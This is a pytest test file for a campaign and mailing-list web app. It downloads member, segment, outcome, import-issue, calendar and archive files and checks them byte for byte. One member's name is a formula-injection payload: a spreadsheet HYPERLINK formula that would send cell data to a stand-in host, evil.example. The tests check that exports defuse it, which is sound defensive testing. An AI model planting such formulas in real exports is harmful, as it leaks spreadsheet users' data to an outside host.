"""Every file the app offers, downloaded over HTTP as a user does, and checked byte for byte.

The data is committed (not inside a test transaction), so each request runs on its own
session and connection, as in production: a streamed download is read after the view has
returned and its transaction has ended.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa
from flask_migrate import upgrade

from app.extensions import db
from app.infra import spreadsheets
from app.models import CampaignStatus, Member, Role, SubscriptionStatus
from app.services.audience import imports, segments
from app.services.campaigns import authoring as campaigns
from app.services.organization import users
from tests import factories
from tests.support.campaigns import sample_input, setup_org
from tests.support.forms import login
from tests.support.member_files import HOSTILE_CSV
from tests.support.tracking import MIGRATIONS

PASSWORD = "solidarity-forever"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# The header of a member export (no custom fields besides "Workplace", then the status).
MEMBER_HEADER = (
    b"email,first_name,last_name,language,postal_code,local,consent,consent_source,"
    b"consent_date,consent_expires,Workplace"
)
# Ana's cells: a ";" anywhere in the row (Excel's list separator in a French locale) quotes
# every cell of it; the "," inside "Roy, Jr." is quoted as RFC 4180 says.
ANA_CELLS = (
    b'"ana@example.org","Ana","Roy, Jr.","fr","H2X 1Y4","Local 30; Edmonton","","","","",'
    b'"Floor 2; Dock 4"'
)
# Mal's cells: the formula gets a leading apostrophe, its quotes are doubled.
MAL_CELLS = b'mal@example.org,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",\'-1,en,'


@pytest.fixture
def site(app, committed_db):
    """A list with three members (one unsubscribed), a segment, a sent day of action with
    deliveries, an import with issues, and an organizer with an API token. Ids only."""
    with app.app_context():
        session = db.session
        setup_org(session)
        user = users.create_user(
            session, email="org@example.org", password=PASSWORD, role=Role.ORGANIZER.value
        )
        token = users.create_token(session, user).secret
        lst = factories.mailing_list(session, name="Local 30", slug="local-30")
        ana = factories.member(
            session,
            email="ana@example.org",
            first_name="Ana",
            last_name="Roy, Jr.",
            language="fr",
            postal_code="H2X 1Y4",
            local="Local 30; Edmonton",
            attributes={"Workplace": "Floor 2; Dock 4"},
        )
        mal = factories.member(
            session, email="mal@example.org", first_name=FORMULA, last_name="-1", local="Local 30"
        )
        gone = factories.member(session, email="gone@example.org", local="Local 30")
        factories.subscribe(session, ana, lst)
        factories.subscribe(session, mal, lst)
        factories.subscribe(session, gone, lst, status=SubscriptionStatus.UNSUBSCRIBED.value)
        segment = segments.create_segment(
            session,
            name="Local 30",
            rules=[{"field": "local", "op": "contains", "value": "Local 30"}],
        )
        day = campaigns.create_campaign(
            session, sample_input("day_of_action", list_ids=(lst.id,)), actor_id=None
        )
        day.status = CampaignStatus.SENT.value
        sent_at = datetime(2026, 11, 2, 14, 0, tzinfo=UTC)
        for person in (ana, mal):
            factories.delivery(
                session, day, person, status="sent", sent_at=sent_at, local=person.local
            )
        session.commit()
        ids = {"list": lst.id, "segment": segment.id, "campaign": day.id, "token": token}
        ids["archive"] = campaigns.archive_url(day).removeprefix("http://localhost:5000")
        ids["calendar"] = campaigns.calendar_url(day).removeprefix("http://localhost:5000")
    return ids


@pytest.fixture
def organizer(client, site):
    assert login(client, "org@example.org", PASSWORD).status_code == 302
    return client


def _lines(response) -> list[bytes]:
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    assert response.mimetype == "text/csv"
    body = response.get_data()
    assert body.endswith(b"\r\n")
    return body.split(b"\r\n")[:-1]


@pytest.mark.parametrize("status", ["", "?status=subscribed", "?status=all"])
def test_list_export_downloads(organizer, site, status):
    response = organizer.get(f"/lists/{site['list']}/export.csv{status}")
    assert response.headers["Content-Disposition"].startswith("attachment; filename=")
    assert response.headers["Cache-Control"] == "no-store"
    lines = _lines(response)
    assert lines[0] == MEMBER_HEADER + b",status"
    assert lines[1] == ANA_CELLS + b',"subscribed"'
    assert lines[2] == MAL_CELLS + b",Local 30,,,,,,subscribed"
    if status == "?status=all":
        assert lines[3] == b"gone@example.org,,,en,,Local 30,,,,,,unsubscribed"
        assert len(lines) == 4
    else:
        assert len(lines) == 3


def test_segment_export_downloads(organizer, site):
    lines = _lines(organizer.get(f"/segments/{site['segment']}/export.csv"))
    assert lines[0] == MEMBER_HEADER
    assert lines[1] == ANA_CELLS
    assert lines[2] == MAL_CELLS + b",Local 30,,,,,"
    assert lines[3] == b"gone@example.org,,,en,,Local 30,,,,,"
    assert len(lines) == 4


def test_api_exports_download(client, site):
    auth = {"Authorization": f"Bearer {site['token']}"}
    listed = _lines(client.get(f"/api/v1/lists/{site['list']}/export", headers=auth))
    assert listed[:3] == [
        MEMBER_HEADER + b",status",
        ANA_CELLS + b',"subscribed"',
        MAL_CELLS + b",Local 30,,,,,,subscribed",
    ]
    assert len(listed) == 3
    segment = _lines(client.get(f"/api/v1/segments/{site['segment']}/export", headers=auth))
    assert segment[:2] == [MEMBER_HEADER, ANA_CELLS]
    assert len(segment) == 4


def test_a_download_left_half_read_gives_its_connection_back(app, organizer, site):
    """The generator owns its connection: closing the response (a client that hangs up)
    closes it, and nothing is left checked out of the pool."""
    with app.app_context():
        pool = db.engine.pool
    # Outside an app context, so the request's own session ends with the request.
    before = pool.checkedout()
    response = organizer.get(f"/lists/{site['list']}/export.csv", buffered=False)
    try:
        chunks = iter(response.response)
        assert next(chunks).startswith(MEMBER_HEADER)
        held = pool.checkedout()
    finally:
        response.close()
    assert (before, held, pool.checkedout()) == (before, before + 1, before)


def test_outcome_csv_downloads(organizer, client, site):
    header = (
        b"email,first_name,last_name,local,language,status,outcome,sent_at,opened_at,"
        b"opened_by_person_at,clicked_at,clicked_by_person_at,petition_clicked_at,"
        b"unsubscribed_at,error"
    )
    page = _lines(organizer.get(f"/stats/campaigns/{site['campaign']}/outcomes.csv"))
    api = _lines(
        client.get(
            f"/api/v1/stats/campaigns/{site['campaign']}/outcomes.csv",
            headers={"Authorization": f"Bearer {site['token']}"},
        )
    )
    assert page == api
    assert page[0] == header
    assert page[1] == (
        b'"ana@example.org","Ana","Roy, Jr.","Local 30; Edmonton","en","sent","",'
        b'"2026-11-02T14:00:00+00:00","","","","","","",""'
    )
    assert page[2] == (
        b'mal@example.org,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'
        b"'-1,Local 30,en,sent,,2026-11-02T14:00:00+00:00,,,,,,,"
    )
    assert len(page) == 3


def test_import_issues_csv_downloads(app, organizer, site, tmp_path):
    path = tmp_path / "members.csv"
    path.write_bytes(HOSTILE_CSV)
    with app.app_context():
        job, _ = imports.import_members(db.session, path=path, list_id=site["list"])
        db.session.commit()
        import_id = job.id
    lines = _lines(organizer.get(f"/imports/{import_id}/issues.csv"))
    assert lines[0] == b"line,email,what happened,reason"
    assert (
        b"11,not-an-email,skipped,invalid email address: An email address must have an @-sign."
        in lines
    )
    assert b"6,bob@example.org,skipped,duplicate of line 5" in lines
    assert (
        b"9,long@example.org,\"imported, value left out\",field 'First name' is longer than "
        b"1000 characters: imported without it"
    ) in lines


def test_calendar_file_downloads(client, site):
    response = client.get(site["calendar"])
    assert response.status_code == 200
    assert response.mimetype == "text/calendar"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="day-of-action-{site["campaign"]}.ics"'
    )
    body = response.get_data()
    assert body.startswith(b"BEGIN:VCALENDAR\r\n")
    assert body.endswith(b"END:VCALENDAR\r\n")
    assert b"\r\nBEGIN:VEVENT\r\n" in body
    assert b"\r\nDTSTART:20251217T190000Z\r\n" in body
    assert f"UID:campaign-{site['campaign']}@localhost".encode() in body


def test_archive_page_downloads(client, site):
    response = client.get(site["archive"])
    assert response.status_code == 200
    assert response.mimetype == "text/html"
    html = response.get_data(as_text=True)
    assert html.lstrip().lower().startswith("<!doctype html")
    assert "Friend, on November 8" in html
    assert "ana@example.org" not in html
    assert "/t/o/" not in html


def test_list_export_on_sqlite(other_app, tmp_path):
    """`make run` uses SQLite: the export streams there too, on its own connection."""
    app = other_app(DATABASE_URL=f"sqlite:///{tmp_path / 'dev.db'}")
    with app.app_context():
        upgrade(directory=MIGRATIONS)
        session = db.session
        users.create_user(
            session, email="org@example.org", password=PASSWORD, role=Role.ORGANIZER.value
        )
        lst = factories.mailing_list(session, name="Local 30", slug="local-30")
        for n in range(2500):  # more than one yield_per batch
            person = factories.member(session, email=f"m{n:04}@example.org", local="Local 30")
            factories.subscribe(session, person, lst)
        session.commit()
        list_id = lst.id
        assert session.scalar(sa.select(sa.func.count()).select_from(Member)) == 2500
        session.remove()
    client = app.test_client()
    assert login(client, "org@example.org", PASSWORD).status_code == 302
    lines = _lines(client.get(f"/lists/{list_id}/export.csv?status=all"))
    assert lines[0] == (
        b"email,first_name,last_name,language,postal_code,local,consent,consent_source,"
        b"consent_date,consent_expires,status"
    )
    assert lines[1] == b"m0000@example.org,,,en,,Local 30,,,,,subscribed"
    assert len(lines) == 2501


def test_a_cell_with_a_semicolon_is_quoted_and_reads_back():
    """Both separators quote; Python's csv reader (the RFC) gets the cells back unchanged."""
    rows = [["a;b", "c"], ["d,e", "f"], ['g"h', "=1"]]
    text = "".join(spreadsheets.csv_chunks(["x", "y"], rows))
    assert text == 'x,y\r\n"a;b","c"\r\n"d,e",f\r\n"g""h",\'=1\r\n'
    assert list(csv.reader(io.StringIO(text))) == [["x", "y"], *rows[:2], ['g"h', "'=1"]]
